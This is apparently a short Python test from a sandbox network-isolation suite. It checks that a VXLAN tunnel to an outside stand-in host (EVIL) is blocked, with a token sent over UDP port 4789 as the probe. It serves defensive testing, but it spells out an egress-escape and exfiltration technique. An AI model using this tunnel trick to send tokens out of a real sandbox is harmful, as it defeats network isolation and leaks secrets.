"""
how: a VXLAN to the internet
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import EVIL
from sockets import udp


def attempt(token):
    return changed(
        ["link", "add", "x0", "type", "vxlan", "id", "7", "remote", EVIL, "dstport", "4789"],
        lambda: udp(EVIL, 4789, token),
    )
